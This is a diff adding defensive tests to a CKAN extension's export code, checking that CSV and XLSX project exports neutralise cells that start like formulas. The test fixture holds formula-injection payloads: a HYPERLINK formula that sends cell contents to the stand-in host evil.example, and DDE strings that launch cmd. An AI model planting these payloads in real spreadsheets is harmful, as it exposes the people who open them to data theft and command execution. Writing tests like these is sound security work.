@@ -143,6 +143,49 @@ def test_local_body_page_lists_projects_of_nearby_bodies(app, catalogue, ckan_co
     assert 'data-module-pin-lat="41.98315"' in page
 
 
+# Cells a spreadsheet would run as formulas (issue 10, defect 5)
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Cliqueu")',
+    "notes": "+cmd|' /C calc'!A0",
+    "technologies": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
+    "contacts": [{"name": "=1+1", "role": "Cap", "email": "x@example.cat", "phone": "", "public": "yes"}],
+}
+
+
+@pytest.fixture
+def hostile_project(catalogue):
+    helpers.call_action("package_patch", {"user": ckan_factories.Sysadmin()["name"]}, id="tramits-tremp", **FORMULAS)
+    return "tramits-tremp"
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised(app, hostile_project):
+    rows = csv_rows(app.get("/en/project/export.csv", query_string={"q": "name:tramits-tremp"}))
+
+    header, (row,) = rows[0], rows[1:]
+    cells = dict(zip(header, row))
+    assert cells["Title"] == "'" + FORMULAS["title"]
+    assert cells["Description"] == "'" + FORMULAS["notes"]
+    assert cells["Technologies"] == "'@SUM(1+1)*cmd|' /C calc'!A0; -2+3"
+    assert cells["Public contacts"] == "'=1+1"
+    for cell in row:
+        assert not cell or cell[0] not in "=+-@\t\r", cell
+
+
+def test_xlsx_cells_that_start_like_a_formula_are_text(app, hostile_project):
+    import zipfile
+
+    response = app.get("/en/project/export.xlsx", query_string={"q": "name:tramits-tremp"})
+
+    with zipfile.ZipFile(io.BytesIO(response.data)) as package:
+        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
+    workbook = load_workbook(io.BytesIO(response.data))
+    header, row = list(workbook.active.iter_rows(values_only=True))
+    cells = dict(zip(header, row))
+    assert cells["Title"] == "'" + FORMULAS["title"]
+    assert all(cell.data_type != "f" for cell in next(workbook.active.iter_rows(min_row=2, max_row=2)))
+
+
 def test_downloads_are_streamed_a_page_of_results_at_a_time(app, catalogue, monkeypatch):
     from ckanext.digicanvis.views import discovery
 
